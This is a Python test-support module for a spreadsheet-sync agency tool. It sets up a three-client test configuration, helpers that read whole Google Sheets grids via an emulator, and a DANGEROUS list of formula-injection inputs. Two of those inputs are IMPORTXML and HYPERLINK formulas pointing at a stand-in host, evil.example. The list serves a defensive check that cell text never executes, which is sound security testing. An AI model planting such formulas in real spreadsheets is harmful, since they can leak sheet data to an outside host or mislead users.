"""Shared by the safety audit: a three-client agency, and ways to look at everything a spreadsheet holds."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

SA = "sheetsync@agency.test"
MANAGER = "anna@agency.test"
OTHER_MANAGER = "boris@agency.test"
SLUGS = ("acme", "globex", "initech")
VIEWERS = {"acme": ["boss@acme.example"], "globex": ["cto@globex.example"], "initech": ["pm@initech.example"]}
MANAGERS = {"acme": [MANAGER], "globex": [MANAGER], "initech": [OTHER_MANAGER]}
GRID_ROWS = 40
BACKLOG, IN_WORK, CARD = "Backlog", "In work", "Card"

# what can start a formula in a spreadsheet cell (docs/safety.md: text never executes), as people actually type it
DANGEROUS = ['=IMPORTXML("http://evil.example/x","//a")', '=HYPERLINK("http://evil.example","click")',
             "+7 999 123-45-67", "-5", "@home", "=1+1", "+SUM(1,2)", "-A1", "@SUM(A1)"]


def config_dict(data_dir: Path, viewers: dict[str, list[str]] | None = None) -> dict[str, Any]:
    viewers = VIEWERS if viewers is None else viewers
    return {
        "data_dir": str(data_dir),
        "agency": {"locale": "en", "timezone": "Europe/Moscow"},
        "departments": [{"key": "dev", "name": "Development", "monthly_minimum": 100000}],
        "specialists": [{"email": MANAGER, "name": "Anna", "role": "manager"},
                        {"email": OTHER_MANAGER, "name": "Boris", "role": "manager"},
                        {"email": "oleg@agency.test", "name": "Oleg", "role": "developer", "department": "dev"}],
        "task_types": [{"key": "landing", "name": "Landing", "role": "developer", "default_estimate_hours": 16}],
        "invoices": {"editor_emails": ["accounts@agency.test"]},
        "clients": [{"slug": s, "name": f"{s.capitalize()} Ltd", "manager_email": MANAGERS[s][0],
                     "editor_emails": MANAGERS[s], "viewer_emails": viewers.get(s, []), "locale": "en",
                     "contacts": f"{s} contact person"} for s in SLUGS],
    }


def grid(app: Any, sid: str) -> dict[str, Any]:
    """The whole spreadsheet as Google returns it with grid data: values, notes, metadata, everything."""
    r = app.emulator.session(SA).get(f"https://sheets.googleapis.com/v4/spreadsheets/{sid}",
                                     params={"includeGridData": "true"})
    r.raise_for_status()
    return r.json()


def cells_of(app: Any, sid: str, title: str) -> dict[tuple[int, int], dict[str, Any]]:
    """(row, col) 1-based -> the cell's grid data (userEnteredValue, effectiveValue, note, ...)."""
    data = app.sheets.get_metadata(sid, "sheets(properties(title),data(rowData(values(userEnteredValue,"
                                        "effectiveValue,formattedValue,note))))", ranges=[f"'{title}'"])
    out = {}
    for r, row in enumerate(data["sheets"][0]["data"][0].get("rowData", []), start=1):
        for c, cell in enumerate(row.get("values", []), start=1):
            if cell:
                out[(r, c)] = cell
    return out


def dump(obj: Any) -> str:
    return json.dumps(obj, ensure_ascii=False)


def rows_by_key(ws: Any) -> tuple[list[str], dict[str, dict[str, str]]]:
    vals = ws.get_all_values()
    header = vals[0]
    return header, {r[0]: dict(zip(header, r, strict=False)) for r in vals[1:] if r and r[0]}
